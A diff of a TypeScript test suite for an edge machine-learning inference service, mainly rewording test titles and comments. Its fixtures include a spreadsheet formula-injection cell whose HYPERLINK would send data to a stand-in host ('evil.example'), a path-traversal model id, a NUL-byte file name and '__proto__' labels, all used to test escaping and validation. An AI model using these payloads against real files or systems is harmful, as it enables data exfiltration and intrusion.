@@ -38,7 +38,7 @@ import { findDatasetByTable } from '../rows/queries.ts'
 import { resume } from './jobs.ts'
 import { deleteInferenceRow, findInference, type StoredInference, updateInference } from './queries.ts'
 
-/** age (mean 50, deviation 10) and sex: older and male rows are predicted as ill. */
+/** The model uses age (mean 50, deviation 10) and sex. It predicts that older and male rows are ill. */
 const file = modelFile('classes')
 const readingElsewhere = modelFile('external-initializer')
 const card = {
@@ -60,7 +60,7 @@ const card = {
   codeHash: 'x',
 }
 
-/** Coefficients of `file`, from its weights. */
+/** Coefficients of the model in `file`, from its weights. */
 const coefficients = [
   { column: null, category: null, class: 'yes', estimate: -11.2 },
   { column: 'age', category: null, class: 'yes', estimate: 0.2 },
@@ -227,12 +227,12 @@ async function created(modelId = 'm1', as = person('alice')) {
 const statusOf = async (inferenceId: string, as = person('alice')) =>
   (await world.call(GetInference, { inferenceId }, as)).inference.status
 
-/** Path of a model's file. */
+/** Returns the path of a model's file. */
 function keptFile(modelId: string): string {
   return join(world.dataDir, 'models', `${sha256Of(modelId).slice(0, 32)}.onnx`)
 }
 
-/** Leaves an unfinished task as a killed edge does. */
+/** Leaves an unfinished task as a killed edge would. */
 function interrupt(inferenceId: string, more: Partial<StoredInference>) {
   const inference = findInference(world.db, inferenceId) as StoredInference
   updateInference(world.db, { ...inference, status: 'running', ...more })
@@ -248,7 +248,7 @@ async function withDatasetResult(csv = 'age,sex\n1,m\n99,m\n', modelId = 'm1') {
   return { inferenceId, datasetId, file: join(world.dataDir, path), path }
 }
 
-test('predicts a form at the edge and reports only the use of the model', {
+test('predicts the values of a form at the edge, and reports only the use of the model to the platform', {
   meta: { spec: ['entities.inference-job', 'calls.flModelInference/inference', 'calls.flModelInference/queryById'] },
 }, async () => {
   const inferenceId = await created()
@@ -276,11 +276,11 @@ test('predicts a form at the edge and reports only the use of the model', {
   expect(JSON.stringify(world.fake.reports)).not.toContain('76543')
 })
 
-test('answers and explains without a task, and stores nothing except the use in the log', {
+test('predicts and explains without a task, and stores only the use of the model in the log', {
   meta: { spec: 'screens.try-model' },
 }, async () => {
   const before = world.call(ListInferences, {})
-  // With a decimal point, because hashes contain many digits.
+  // Values with a decimal point, because the digits of whole numbers could also occur in hashes.
   const [given, row] = [
     { age: 76541.28391, sex: 'm' },
     { age: 76542.28391, sex: 'f' },
@@ -292,7 +292,7 @@ test('answers and explains without a task, and stores nothing except the use in 
   ])
   const why = await world.call(ExplainOnce, { modelId: 'seen', row })
   expect(why).toMatchObject({ method: 'linear', class: 'yes' })
-  // Again: the platform receives one report per day and user.
+  // The second use on the same day: the platform receives one report per day and user.
   await world.call(InferOnce, { modelId: 'seen', rows: [row] }, person('bob'))
   await world.call(InferOnce, { modelId: 'seen', rows: [row] })
 
@@ -319,14 +319,14 @@ test.each([
   ['another party’s model', { modelId: 'nobody’s', rows: [{ age: 50, sex: 'm' }] }, 'model.not-found'],
   ['a row without a column', { modelId: 'm1', rows: [{ age: 50 }] }, 'inference.column-missing'],
 ])(
-  'does not answer a prediction without a task for %s, either',
+  'does not answer a prediction without a task for %s',
   { meta: { spec: 'screens.try-model' } },
   async (_what, input, code) => {
     await expect(world.call(InferOnce, input)).rejects.toMatchObject({ code })
   },
 )
 
-test('lists the inference tasks of the edge in “my tasks”, for each user those that they may see', {
+test('lists the inference tasks of the edge in “my tasks” and shows each user only the tasks that they may see', {
   meta: { spec: 'calls.flJobRecruit/listMyJob' },
 }, async () => {
   const inferenceId = await created()
@@ -341,14 +341,14 @@ test('lists the inference tasks of the edge in “my tasks”, for each user tho
   expect((await ask({}, person('bob'))).records.map(({ id }) => id)).not.toContain(inferenceId)
 })
 
-test('reads the full results of one page of inference tasks only, newest first, also when searching by name', async () => {
+test('reads the full results only for the tasks of one page, newest first, also in a search by name', async () => {
   const dora = person('dora')
   const made: string[] = []
   for (const name of ['ÄRZTE 1', 'ärzte 2', 'Ärzte 3', 'other', 'ärzte 4'])
     made.push(await world.call(CreateInference, { modelId: 'm1', name, description: 'd' }, dora))
   await until(async () => (await statusOf(made[4] ?? '', dora)) === 'created')
   for (const id of made) await until(async () => (await statusOf(id, dora)) !== 'creating')
-  // These results are invalid JSON, so reading them would fail.
+  // These results are invalid JSON, so reading them would throw.
   const breakResult = world.db.prepare(`update inferences set result = '{' where id = ?`)
   for (const id of made.slice(0, 2)) breakResult.run(id)
   for (const endpoint of [ListInferences, ListMyTasksAtEdge]) {
@@ -365,7 +365,7 @@ test('reads the full results of one page of inference tasks only, newest first, 
   world.db.prepare('delete from inferences where created_by_user_id = ?').run('u-dora')
 })
 
-test('predicts and explains a text, and predicts a dataset of texts with the wrong ones first', {
+test('predicts and explains a text, and predicts a dataset of texts, with wrong predictions first', {
   meta: { spec: ['screens.inference-result-texts', 'calls.flModelInference/inference_nlp'] },
 }, async () => {
   const inferenceId = await created('texts')
@@ -398,7 +398,7 @@ test('predicts and explains a text, and predicts a dataset of texts with the wro
   await world.call(DeleteInference, { inferenceId })
 })
 
-test('predicts any number of labels per text with their probabilities, and lists the rows with the most wrong labels first', {
+test('predicts any number of labels per text with their probabilities, and lists rows with the most wrong labels first', {
   meta: { spec: 'screens.multilabel-data' },
 }, async () => {
   const inferenceId = await created('labels')
@@ -456,7 +456,7 @@ test('predicts any number of labels per text with their probabilities, and lists
   await world.call(DeleteInference, { inferenceId })
 })
 
-test('recognises a label that a spreadsheet would run as a formula, in a list and on its own', {
+test('recognises a label that a spreadsheet would run as a formula, within a list or alone in a cell', {
   meta: { spec: 'screens.multilabel-data' },
 }, async () => {
   for (const cellOf of [(label: string) => [label], (label: string) => label]) {
@@ -480,7 +480,7 @@ test('recognises a label that a spreadsheet would run as a formula, in a list an
   }
 })
 
-test('returns the entities of a text with their positions, and for a dataset of tokens what was found', {
+test('returns the entities of a text with their positions, and counts the found and missed entities of a dataset', {
   meta: { spec: 'screens.inference-result-entities' },
 }, async () => {
   const inferenceId = await created('entities')
@@ -550,7 +550,7 @@ test('returns the entities of a text with their positions, and for a dataset of 
 })
 
 describe('uploaded pictures', () => {
-  /** Red above, blue below. The camera may have been rotated. */
+  /** Creates a picture that is red above and blue below. `orientation` is the rotation that a camera stores. */
   const warm = (orientation = 1) => {
     const [red, blue] = [
       [255, 0, 0],
@@ -572,7 +572,7 @@ describe('uploaded pictures', () => {
   const send = (inferenceId: string, files: SentFile[], as = person('alice')) =>
     world.call(InferImages, { inferenceId }, as, files)
 
-  test('predicts uploaded pictures in order and upright, returns each with its name, and stores none', {
+  test('predicts uploaded pictures in their order and upright, returns each prediction with the file name, and stores no picture', {
     meta: { spec: 'calls.flModelInference/inferenceImages' },
   }, async () => {
     const inferenceId = await created('pictures')
@@ -601,7 +601,7 @@ describe('uploaded pictures', () => {
     expect(JSON.stringify(findInference(world.db, inferenceId))).not.toContain(predictions[1]?.base64.slice(0, 40))
   })
 
-  test('returns predictions of pictures in the format of older clients', {
+  test('returns predictions of pictures in the format that older clients expect', {
     meta: { spec: 'calls.flModelInference/inferenceImages' },
   }, async () => {
     const inferenceId = await created('pictures')
@@ -643,7 +643,7 @@ describe('uploaded pictures', () => {
     ],
     ['a name with a NUL', async () => [{ name: 'a\0.png', content: one.subarray(0, 9) }], 'request.nul', {}],
   ])(
-    'refuses %s, and the task stays ready for the next request',
+    'refuses %s, and can still predict afterwards',
     { meta: { spec: 'calls.flModelInference/inferenceImages' } },
     async (_what, files, code, params) => {
       const inferenceId = await created('pictures')
@@ -669,7 +669,7 @@ describe('uploaded pictures', () => {
     expect(await say('en')).toMatch(/^“附件.png” cannot be read as a picture\./)
   })
 
-  test('refuses pictures for another model, and a request that is not a form', async () => {
+  test('refuses pictures for a model of other data, and a request that is not a form', async () => {
     const inferenceId = await created()
     await expect(send(inferenceId, await sent())).rejects.toMatchObject({ code: 'inference.not-pictures' })
     const payload = { id: inferenceId }
@@ -696,7 +696,7 @@ describe('uploaded pictures', () => {
 })
 
 test("places boxes on the upright picture, and lists the dataset's pictures with the most wrong boxes first", async () => {
-  /** 64 x 64, with a red square of 8 pixels whose centre is that of a box of 48 x 32. */
+  /** Pictures of 64 × 64 pixels with a red square of 8 pixels. Its centre is that of a box of 48 × 32 pixels. */
   const red = (left: number, top: number) =>
     sharp({ create: { width: 64, height: 64, channels: 3, background: '#000000' } }).composite([
       { input: { create: { width: 8, height: 8, channels: 3, background: '#ff0000' } }, left, top },
@@ -764,11 +764,11 @@ test("places boxes on the upright picture, and lists the dataset's pictures with
   await world.call(DeleteInference, { inferenceId })
 })
 
-test('predicts a graph in a request with its neighbours, and a dataset that is a graph', {
+test('predicts a node together with its neighbours in a request, and all nodes of a dataset', {
   meta: { spec: 'screens.inference-result-graph' },
 }, async () => {
   const inferenceId = await created('graph')
-  // Young herself, but with old neighbours.
+  // The node itself has a low age, but its neighbours have high ages.
   const row = { x: '[[10],[90],[90],[90],[10]]', edge_index: '[[0,0,0],[1,2,3]]', id: '["young","a","b","c","lone"]' }
   const { type, header, predictions } = await world.call(Infer, { inferenceId, rows: [row] })
   expect({ type, header }).toEqual({ type: 'graph', header: ['node', 'age'] })
@@ -816,7 +816,7 @@ test('predicts a graph in a request with its neighbours, and a dataset that is a
   await world.call(DeleteInference, { inferenceId })
 })
 
-test('shows pictures beside their predictions only to users who may read the rows, and only those that were predicted', async () => {
+test('shows pictures beside their predictions only to users who may read the rows, and only pictures that were predicted', async () => {
   const draft = await world.upload(
     await zipOf({ 'calm/a.png': await picture('png'), 'wild/b.png': await picture('png') }),
   )
@@ -850,7 +850,7 @@ test('shows pictures beside their predictions only to users who may read the row
   expect(await tokenFor('bob', 'completed')).toBeUndefined()
 })
 
-test("shows which part of a dataset's picture the model used, at the edge that stores it and only to readers of its rows", {
+test("shows which part of a dataset's picture the model used, only at the edge that stores it and only to users who may read its rows", {
   meta: { spec: 'screens.inference-result-pictures' },
 }, async () => {
   const half = (left: number) =>
@@ -875,11 +875,11 @@ test("shows which part of a dataset's picture the model used, at the edge that s
   const row = { name: 'left.png', file: shown.rawPayload.toString('base64') }
   const { method, class: predicted, against, parts } = await world.call(ExplainRow, { inferenceId, row })
   expect([method, predicted, against]).toEqual(['covered', 'warm', 'cold'])
-  // The model uses the upper row: red there is warm, blue is cold.
+  // The model uses the upper row of the picture: red means warm, blue means cold.
   expect(parts?.effects.map(Math.sign)).toEqual([1, 1, 1, 1, -1, -1, -1, -1, ...Array.from({ length: 56 }, () => 0)])
 
   const bob = person('bob')
-  // One after another: a rejection during another await would be unhandled.
+  // The calls run one after another, because a rejection during another await would be unhandled.
   for (const ask of [
     () => world.call(ListPredictedRows, { inferenceId, pageNo: 1, pageSize: 5 }, bob),
     () => world.call(ExplainRow, { inferenceId, row }, bob),
@@ -895,7 +895,7 @@ test("shows which part of a dataset's picture the model used, at the edge that s
   await world.call(DeleteInference, { inferenceId })
 })
 
-test('refuses a token signed by the platform to query a model or open inputs, answers, results or files', {
+test('refuses a token signed by the platform for querying a model or reading inputs, answers, results or files', {
   meta: { claim: 'sessions.token-queries-model' },
 }, async () => {
   const { inferenceId, datasetId, path } = await withDatasetResult()
@@ -935,7 +935,7 @@ test('refuses a token signed by the platform to query a model or open inputs, an
   await world.call(DeleteInference, { inferenceId })
 })
 
-test('gives the query page the stored model and the datasets that the user may read', async () => {
+test('gives the inference page the stored model and the datasets that the user may read', async () => {
   expect(await world.call(GetAskedModel, { modelId: 'm1' })).toEqual({
     id: 'm1',
     name: 'Illness',
@@ -955,7 +955,7 @@ test('gives the query page the stored model and the datasets that the user may r
   expect(others).not.toContain(own.datasetId)
 })
 
-test('refuses a text for a table model, with an explanation', {
+test('refuses a text for a model of tables, and explains why', {
   meta: { spec: 'calls.flModelInference/inference_nlp' },
 }, async () => {
   const inferenceId = await created()
@@ -966,7 +966,7 @@ test.each([
   [{ age: 60 }, 'inference.column-missing', { column: 'sex' }],
   [{ age: 'old', sex: 'm' }, 'inference.not-number', { column: 'age' }],
 ])(
-  'explains what is wrong with a form: %j',
+  'explains what is wrong in a prediction form: %j',
   { meta: { spec: 'calls.flModelInference/inference' } },
   async (row, code, params) => {
     const inferenceId = await created()
@@ -979,7 +979,7 @@ test.each([
   ['Age,sex\n60,m\n', /no column “age”.*needs\. The nearest name in the dataset is “Age”/],
   ['sex,years of age\nm,60\n', /no column “age”.*nearest name in the dataset is “years of age”/],
   ['age\n60\n', /no column “sex”, which the model needs\. Add the column/],
-])('names the missing column of the model and the nearest one in the dataset: %j', async (csv, reason) => {
+])('names the missing column of the model and the most similar column of the dataset: %j', async (csv, reason) => {
   const { datasetId } = await world.dataSet(csv, `Lacking ${csv.length}`)
   const inferenceId = await created()
   await world.call(InferDataset, { inferenceId, datasetId })
@@ -987,7 +987,7 @@ test.each([
   expect((await world.call(GetInference, { inferenceId })).inference.failure).toMatch(reason)
 })
 
-test('predicts a whole dataset into a file that opens only in a session of a user who may read its rows', {
+test('predicts a whole dataset into a file that opens only in the session of a user who may read its rows', {
   meta: {
     spec: [
       'screens.inference-result-collection',
@@ -1021,13 +1021,13 @@ test('predicts a whole dataset into a file that opens only in a session of a use
   expect(readdirSync(join(world.dataDir, 'results'))).toEqual([])
 })
 
-test('predicts a form and a dataset with a model that was trained elsewhere, and says what it cannot do', {
+test('predicts a form and a dataset with an imported model, and says what is not available for it', {
   meta: { spec: 'screens.upload-external-model' },
 }, async () => {
   const inferenceId = await created('imported')
   const answer = await world.call(Infer, { inferenceId, rows: [{ age: 2, chol: 1 }] })
   expect(answer.predictions).toMatchObject([{ result: 'malignant' }])
-  // The model contains no statistics of its training rows, so no values can be substituted.
+  // The model contains no statistics of its training rows, so missing values cannot be substituted.
   expect(await world.call(ExplainRow, { inferenceId, row: { age: 2, chol: 1 } })).toMatchObject({
     columns: [],
     untold: ['age', 'chol'],
@@ -1048,7 +1048,7 @@ test('predicts a form and a dataset with a model that was trained elsewhere, and
   expect(inference.failure).toMatch(/^The model returned no number for part of this data\./)
 })
 
-test("fails with a reason for a dataset without the model's columns", async () => {
+test('fails the task if the dataset lacks columns of the model, and names the reason', async () => {
   const { datasetId } = await world.dataSet('age\n1\n2\n', 'Narrow')
   const inferenceId = await created()
   await world.call(InferDataset, { inferenceId, datasetId })
@@ -1057,11 +1057,11 @@ test("fails with a reason for a dataset without the model's columns", async () =
   expect(inference.failure).toBe(
     'The dataset has no column “sex”, which the model needs. Add the column or choose another dataset, then predict again.',
   )
-  // The task can be run again.
+  // The task can be run again with another input.
   expect(inference.abilities).toEqual({ run: true, delete: true })
 })
 
-test('shows members their own tasks and administrators all, and lets other users neither use nor delete them', {
+test('shows members their own tasks and administrators all tasks, and lets other users neither use nor delete them', {
   meta: { spec: 'calls.flModelInference/list' },
 }, async () => {
   const inferenceId = await created()
@@ -1092,7 +1092,7 @@ test.each([
   ['stealing', 'model.refused-external-data'],
   ['swapped in transit', 'model.changed'],
   ['../../edge.sqlite', 'model.not-found'],
-])('fails the task of a model that cannot be fetched or accepted (%s), with the reason', async (modelId, code) => {
+])('fails the task of a model that cannot be fetched or accepted (%s), and names the reason', async (modelId, code) => {
   const inferenceId = await created(modelId)
   expect(findInference(world.db, inferenceId)?.failure?.code).toBe(code)
   await expect(world.call(Infer, { inferenceId, rows: [{ age: 1 }] })).rejects.toMatchObject({
@@ -1100,7 +1100,7 @@ test.each([
   })
 })
 
-test('logs accepted and refused models with their hash', async () => {
+test('logs accepted and refused models with the hashes of their files', async () => {
   const of = (modelId: string) =>
     world
       .decisions()
@@ -1120,7 +1120,7 @@ test('logs accepted and refused models with their hash', async () => {
   expect(of('swapped in transit').at(-1)).toEqual(['model-refused', sha256, 'model.changed'])
 })
 
-test('fails the task of a model that needs more memory than available, while the edge keeps running', async () => {
+test('fails the task of a model that needs more memory than is available, and keeps the edge running', async () => {
   const inferenceId = await created('outgrowing')
   await expect(world.call(Infer, { inferenceId, rows: [{ age: 1 }] })).rejects.toMatchObject({
     code: 'inference.model-ended',
@@ -1130,7 +1130,7 @@ test('fails the task of a model that needs more memory than available, while the
   expect((await world.call(Infer, { inferenceId: other, rows: [{ age: 99, sex: 'm' }] })).rowCount).toBe(1)
 })
 
-test('fetches a model file again that was altered on disk, and refuses it while the platform is unreachable', async () => {
+test('fetches a model file again if it was altered on disk, and refuses it while the platform is unreachable', async () => {
   const inferenceId = await created()
   const infer = () => world.call(Infer, { inferenceId, rows: [{ age: 99, sex: 'm' }] })
   await infer()
@@ -1155,7 +1155,7 @@ test('fetches a model file again that was altered on disk, and refuses it while 
   expect((await infer()).predictions[0]?.result).toBe('yes')
 })
 
-test('requires distinct names of inference tasks', {
+test('refuses an inference task with the name of another task', {
   meta: { spec: ['validation.inference-task-fields', 'calls.flModelInference/createJob'] },
 }, async () => {
   const create = (name: string, description = 'd') => world.call(CreateInference, { modelId: 'm1', name, description })
@@ -1165,7 +1165,7 @@ test('requires distinct names of inference tasks', {
   await expect(create('x'.repeat(21))).rejects.toMatchObject({ code: 'model.text-too-long' })
 })
 
-test('uses a stored model while the platform is unreachable, and continues a job after a restart', async () => {
+test('uses a stored model while the platform is unreachable, and resumes a job after a restart', async () => {
   const { datasetId } = await world.dataSet('age,sex\n1,m\n99,m\n', 'Later')
   await world.fake.goAway()
   await until(() => !world.link.isConnected)
@@ -1181,7 +1181,7 @@ test('uses a stored model while the platform is unreachable, and continues a job
   await world.fake.comeBack()
 })
 
-test('creates a task once the platform is reachable, if its model could not be fetched before', async () => {
+test('if the platform was unreachable, fetches the model and creates the task when the platform is back', async () => {
   const model = world.fake.models.get('m1')
   if (model) world.fake.models.set('late', model)
   await world.fake.goAway()
@@ -1195,7 +1195,7 @@ test('creates a task once the platform is reachable, if its model could not be f
   fetched.mockRestore()
 })
 
-test("replaces a dataset's result by a form's, and deletes the dataset's file", async () => {
+test('replaces the result for a dataset with that for a form, and deletes the file of the first result', async () => {
   const { inferenceId, file } = await withDatasetResult()
   const wrong = world.call(Infer, { inferenceId, rows: [{ age: 'old', sex: 'm' }] })
   await expect(wrong).rejects.toMatchObject({ code: 'inference.not-number' })
@@ -1207,7 +1207,7 @@ test("replaces a dataset's result by a form's, and deletes the dataset's file", 
   expect((await world.call(GetInference, { inferenceId })).type).toBe('tabular')
 })
 
-test('refuses to delete or reuse a task while it predicts a form, and does not recreate a deleted task', async () => {
+test('refuses to delete or reuse a task while it predicts a form, and does not create a deleted task again', async () => {
   const { inferenceId, datasetId } = await withDatasetResult()
   const letGo = holdPredictions(world)
   const answer = world.call(Infer, { inferenceId, rows: [{ age: 99, sex: 'm' }] })
@@ -1221,7 +1221,7 @@ test('refuses to delete or reuse a task while it predicts a form, and does not r
   expect(findInference(world.db, inferenceId)).toBeUndefined()
 })
 
-test('deletes the file of a dataset job whose task was deleted', async () => {
+test('deletes the prediction file of a task that was deleted during its job', async () => {
   const { datasetId } = await world.dataSet('age,sex\n1,m\n', `Gone ${count}`)
   const inferenceId = await created()
   const before = results()
@@ -1235,7 +1235,7 @@ test('deletes the file of a dataset job whose task was deleted', async () => {
   expect(findInference(world.db, inferenceId)).toBeUndefined()
 })
 
-test('at start, removes files that belong to no result, and reports an interrupted form', async () => {
+test('at start, removes files that belong to no result, and reports that the prediction of a form was interrupted', async () => {
   const { inferenceId, file } = await withDatasetResult()
   for (const name of ['orphan.csv', `${inferenceId}-1.csv.1f.tmp`]) {
     writeFileSync(join(world.dataDir, 'results', name), 'x')
@@ -1251,11 +1251,11 @@ test('at start, removes files that belong to no result, and reports an interrupt
   })
 })
 
-test('gives up predicting a dataset if that stops the edge each time', async () => {
+test('stops retrying the prediction of a dataset that ends the edge process each time', async () => {
   const { inferenceId, datasetId } = await withDatasetResult()
   const letGo = holdPredictions(world)
   await world.call(InferDataset, { inferenceId, datasetId })
-  // Each start finds the job as the previous kill left it, and resumes it.
+  // Each start finds the job as the previous killed process left it, and resumes it.
   for (let start = 0; start < 2; start += 1) await resume(world.deps.inference)
   expect(findInference(world.db, inferenceId)).toMatchObject({ status: 'running', attempts: 3 })
   await resume(world.deps.inference)
@@ -1268,7 +1268,7 @@ test('gives up predicting a dataset if that stops the edge each time', async () 
   letGo()
 })
 
-test('does not open an earlier result for a user who may read only the dataset of newer work', async () => {
+test("does not show an earlier result to a user who may read only the dataset of the task's current job", async () => {
   const alone = await world.dataSet('age,sex\n1,m\n', 'Alone', person('alice'), { sharing: 'person' })
   const shared = await world.dataSet('age\n1\n', 'Shared, but narrow')
   const inferenceId = await created()
@@ -1284,7 +1284,7 @@ test('does not open an earlier result for a user who may read only the dataset o
 
 const linesOf = (file: string) => readFileSync(file, 'utf8').replace('\uFEFF', '').split('\r\n').slice(0, -1)
 
-test('escapes and counts cells, headers and classes that a spreadsheet would run, but not numbers', async () => {
+test('escapes and counts cells, headers and classes that a spreadsheet would run as formulas, but not numbers', async () => {
   const csv = [
     'age,sex,=SUM(A1),-note,delta,code',
     '99,m,"=HYPERLINK(""http://evil.example/?""&A2,""ok"")",+1 555,-1.5,-1.5',
@@ -1302,7 +1302,7 @@ test('escapes and counts cells, headers and classes that a spreadsheet would run
     "2,1,m,'@SUM(1+1),'\ttab,-0.002,+7,'=1+1",
     "3,1,f,fine,'-x,3,'-y,'=1+1",
   ])
-  // Both classes keep their probabilities, whatever their names.
+  // The probabilities of both classes are in the file, whatever the names of the classes.
   for (const row of rows) {
     const [one, other] = row.split(',').slice(-3, -1).map(Number)
     expect(one).toBeGreaterThan(0)
@@ -1311,7 +1311,7 @@ test('escapes and counts cells, headers and classes that a spreadsheet would run
   expect((await world.call(GetInference, { inferenceId })).result).toMatchObject({ harmlessCells: 10 })
 })
 
-test("returns the probability of a class with any name in a form's response", async () => {
+test('returns the probability of each class of a form, whatever the name of the class', async () => {
   const inferenceId = await created('formulas')
   const { predictions } = await world.call(Infer, { inferenceId, rows: [{ age: 99, sex: 'm' }] })
   const [prediction] = predictions
@@ -1319,7 +1319,7 @@ test("returns the probability of a class with any name in a form's response", as
   expect(Object.keys(prediction?.kind === 'classes' ? prediction.probabilities : {})).toEqual(['=1+1', '__proto__'])
 })
 
-test('predicts the clusters of rows, by form and by dataset', async () => {
+test('predicts the clusters of rows in a form and in a dataset', async () => {
   const { inferenceId, file } = await withDatasetResult('age,sex\n61,m\n40,f\n', 'clusters')
   const lines = linesOf(file)
   expect(lines[0]).toBe('id,age,sex,prediction,distance,outside')
@@ -1334,7 +1334,7 @@ test('predicts the clusters of rows, by form and by dataset', async () => {
   expect((await world.call(GetInference, { inferenceId })).inference.output).toMatchObject({ kind: 'clusters' })
 })
 
-test('keeps the names of input columns, and gives added columns other names', async () => {
+test('keeps the names of input columns, and gives other names to the columns that it adds', async () => {
   const csv = 'age,sex,Prediction,prediction (model),prediction (2),probability yes\n99,m,a,b,c,d\n'
   const { file } = await withDatasetResult(csv)
   const [header, row] = linesOf(file)
@@ -1345,17 +1345,17 @@ test('keeps the names of input columns, and gives added columns other names', as
   expect(row).toMatch(/^1,99,m,a,b,c,d,yes,0\.\d+,0\.\d+,$/)
 })
 
-test('counts zero escaped cells in a result without any', async () => {
+test('reports zero escaped cells for a result without any', async () => {
   const { inferenceId } = await withDatasetResult()
   expect((await world.call(GetInference, { inferenceId })).result?.harmlessCells).toBe(0)
 })
 
-test("returns no accuracy for a dataset without the label, whatever the label's name", async () => {
+test("returns no accuracy for a dataset that lacks the label, whatever the label's name", async () => {
   const { inferenceId } = await withDatasetResult('age,sex\n1,m\n', 'oddly named')
   expect((await world.call(GetInference, { inferenceId })).result?.accuracy).toBeNull()
 })
 
-test('lists the most confident wrong predictions of a dataset first, one page at a time', {
+test('lists the wrong predictions of a dataset first, most confident ones at the top, in pages', {
   meta: { spec: 'screens.inference-result-collection' },
 }, async () => {
   const right = Array.from({ length: 3_000 }, (_, at) => `${at % 2 ? 95 : 5},m,${at % 2 ? 'yes' : 'no'}`)
@@ -1372,7 +1372,7 @@ test('lists the most confident wrong predictions of a dataset first, one page at
       ['3005', '70', 'no'],
       ['3002', '60', 'no'],
     ],
-    // Then the correct ones, in the order of the data; rows without a label at the end.
+    // Then follow the correct predictions, in the order of the data, and at the end the rows without a label.
     ['1', '5', 'no'],
   ])
   const [top] = first.records
@@ -1402,7 +1402,7 @@ describe('a cell of the confusion matrix', () => {
     page: { pageNo?: number; pageSize?: number } = {},
   ) => world.call(ListPredictedRows, { inferenceId, truth, said, ...page })
 
-  test('lists exactly the rows that it counts, one page at a time', {
+  test('lists exactly the rows that the cell counts, in pages', {
     meta: { spec: 'screens.confusion-matrix-rows' },
   }, async () => {
     const { inferenceId } = await withDatasetResult(csv)
@@ -1424,14 +1424,14 @@ describe('a cell of the confusion matrix', () => {
         }
       }
     }
-    // The most confident first; the others as usual, one page at a time.
+    // For a cell, the most confident predictions come first. Without a cell, the order is the usual one.
     expect((await cellsOf(inferenceId, 0, 1)).records.map(({ data }) => data.age)).toEqual(['99', '60'])
     const second = await cellsOf(inferenceId, 1, 1, { pageNo: 2, pageSize: 15 })
     expect([second.total, second.pages, second.records.length]).toEqual([20, 2, 5])
     expect(world.decisions('result-read').at(-1)?.data).toMatchObject({ truth: 1, said: 1, rows: 5 })
   })
 
-  test("finds a cell of the confusion matrix by its class, whatever the class's name", {
+  test('finds a cell of the confusion matrix by its classes, whatever their names', {
     meta: { spec: 'screens.confusion-matrix-rows' },
   }, async () => {
     const { inferenceId } = await withDatasetResult('age,sex,ill\n99,m,=1+1\n1,f,=1+1\n1,f,__proto__\n', 'formulas')
@@ -1459,7 +1459,7 @@ describe('a cell of the confusion matrix', () => {
     },
   )
 
-  test('requires for a cell of the confusion matrix the same rights as for the rows', {
+  test('shows the rows of a cell of the confusion matrix only to users who may read the rows', {
     meta: { spec: 'screens.confusion-matrix-rows' },
   }, async () => {
     const { inferenceId } = await withDatasetResult(csv)
@@ -1476,7 +1476,7 @@ describe('a cell of the confusion matrix', () => {
   })
 })
 
-test('shows cells that were escaped in the file in their original form', async () => {
+test('shows the original text of cells that were escaped in the prediction file', async () => {
   const csv = 'age,sex,note,ill\n99,m,"=A1, ""x""\nand more",=1+1\n1,f,\'-y,__proto__\n'
   const { inferenceId } = await withDatasetResult(csv, 'formulas')
   const { records } = await world.call(ListPredictedRows, { inferenceId })
@@ -1487,7 +1487,7 @@ test('shows cells that were escaped in the file in their original form', async (
   expect(records[0]?.kind === 'classes' && Object.keys(records[0].probabilities)).toEqual(['=1+1', '__proto__'])
 })
 
-test('marks rows outside the training range in the file, and counts them for users who may read them', async () => {
+test('marks rows outside the training range in the prediction file, and counts them for users who may read them', async () => {
   const { datasetId } = await world.dataSet('age,sex\n99999,m\n50,x\n50,m\n', 'Far', person('alice'), {
     sharing: 'person',
   })
@@ -1507,7 +1507,7 @@ test('marks rows outside the training range in the file, and counts them for use
   const { records } = await world.call(ListPredictedRows, { inferenceId })
   expect(records.map(({ data }) => data.age)).toEqual(['99999', '50', '50'])
 
-  // An administrator sees that the job ran, but neither the rows nor such small counts.
+  // An administrator sees that the job ran, but not the rows and such small counts.
   const admin = person('dora', { role: 'admin' })
   const shown = await world.call(GetInference, { inferenceId }, admin)
   expect(shown.result).toMatchObject({ rowCount: 3 })
@@ -1520,13 +1520,13 @@ test('marks rows outside the training range in the file, and counts them for use
   })
 })
 
-test("returns no pages for a form's responses", async () => {
+test('returns no pages of predictions for a form', async () => {
   const inferenceId = await created()
   await world.call(Infer, { inferenceId, rows: [{ age: 1, sex: 'm' }] })
   await expect(world.call(ListPredictedRows, { inferenceId })).rejects.toMatchObject({ code: 'inference.not-found' })
 })
 
-test("explains an additive model's prediction from its card, stores nothing, and only for users who may predict", async () => {
+test('explains the prediction of an additive model from its card, stores nothing, and does so only for users who may predict', async () => {
   const inferenceId = await created('seen')
   const row = { age: 60, sex: 'm' }
   const explanation = await world.call(ExplainRow, { inferenceId, row })
